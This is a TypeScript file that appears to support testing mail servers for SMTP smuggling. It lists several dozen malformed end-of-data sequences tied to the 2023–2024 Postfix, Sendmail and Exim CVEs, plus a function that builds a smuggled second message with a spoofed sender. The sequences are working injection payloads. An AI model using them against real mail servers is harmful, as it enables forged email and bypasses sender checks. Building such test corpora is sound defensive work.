/**
 * What one server or another has taken for the end of a message, or might: everything that looks like CRLF "." CRLF and is not. Those of 2023 and 2024 (CVE-2023-51764 Postfix, CVE-2023-51765
 * Sendmail, CVE-2023-51766 Exim, CVE-2024-7208, CVE-2024-7209 and the ways around the first mends), with every octet beside it that a program may drop, or take for a line break: NUL, VT, FF, NEL (U+0085, as
 * one octet and in UTF-8), LINE SEPARATOR.
 */
export const FALSE_ENDS: Readonly<Record<string, string>> = {
  'LF . LF': '\n.\n',
  'LF . CRLF': '\n.\r\n',
  'LF . CR': '\n.\r',
  'CR . CR': '\r.\r',
  'CR . LF': '\r.\n',
  'CR . CRLF': '\r.\r\n',
  'CRLF . CR': '\r\n.\r',
  'CRLF . LF': '\r\n.\n',
  'CRLF . CR CR LF': '\r\n.\r\r\n',
  'CRLF . LF LF': '\r\n.\n\n',
  'CR CR LF . CR CR LF': '\r\r\n.\r\r\n',
  'LF LF . CRLF': '\n\n.\r\n',
  'LF CR . CRLF': '\n\r.\r\n',
  'LF CR . LF CR': '\n\r.\n\r',
  'CR LF . CR NUL LF': '\r\n.\r\0\n',
  'CR NUL LF . CRLF': '\r\0\n.\r\n',
  'NUL before the dot': '\r\n\0.\r\n',
  'NUL behind the dot': '\r\n.\0\r\n',
  'NUL on both sides': '\r\n\0.\0\r\n',
  'NUL before CRLF': '\0\r\n.\r\0\n',
  'LF . NUL LF': '\n.\0\n',
  'VT . VT': '\v.\v',
  'CRLF . VT CRLF': '\r\n.\v\r\n',
  'CRLF VT . CRLF': '\r\n\v.\r\n',
  'FF . FF': '\f.\f',
  'CRLF . FF CRLF': '\r\n.\f\r\n',
  'CRLF FF . CRLF': '\r\n\f.\r\n',
  'NEL . NEL, one octet': '\x85.\x85',
  'CRLF . NEL, one octet': '\r\n.\x85',
  'NEL . CRLF, one octet': '\x85.\r\n',
  'NEL . NEL, UTF-8': '\xc2\x85.\xc2\x85',
  'LINE SEPARATOR': '\xe2\x80\xa8.\xe2\x80\xa8',
  'CRLF . LINE SEPARATOR': '\r\n.\xe2\x80\xa8',
  'blank behind the dot': '\r\n. \r\n',
  'tab before the dot': '\r\n\t.\r\n',
  'backspace behind the dot': '\r\n.\b\r\n',
  'ETX, EOT, SUB': '\r\n.\x03\x04\x1a\r\n',
  'eighth bit set on all': '\x8d\x8a\xae\x8d\x8a',
  'eighth bit set on CRLF': '\x8d\x8a.\x8d\x8a',
  'two dots': '\r\n..\r\n',
  'full-width dot, UTF-8': '\r\n\xef\xbc\x8e\r\n',
  'soft hyphen behind the dot': '\r\n.\xc2\xad\r\n',
  'telnet IAC': '\r\n.\xff\xf4\r\n',
}

/** What is smuggled: a second message, if the server takes what stands before for the end of the first. */
export function smuggledMessage(to: string): string {
  return `MAIL FROM:<admin@b.test>\r\nRCPT TO:<${to}>\r\nDATA\r\nSubject: smuggled\r\n\r\nsecond\r\n.\r\n`
}
